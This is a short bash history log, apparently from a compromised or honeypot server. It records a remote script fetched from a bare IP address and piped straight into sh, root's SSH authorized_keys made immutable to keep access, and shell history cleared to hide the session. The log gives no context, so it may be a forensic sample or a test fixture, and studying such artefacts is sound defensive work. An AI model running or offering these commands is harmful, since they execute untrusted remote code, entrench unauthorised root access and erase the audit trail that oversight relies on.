#1795161000
ls -la
#1795161010
curl -fsSL http://203.0.113.77/i.sh | sh
# a comment
chattr +i /root/.ssh/authorized_keys
history -c
systemctl restart nginx &
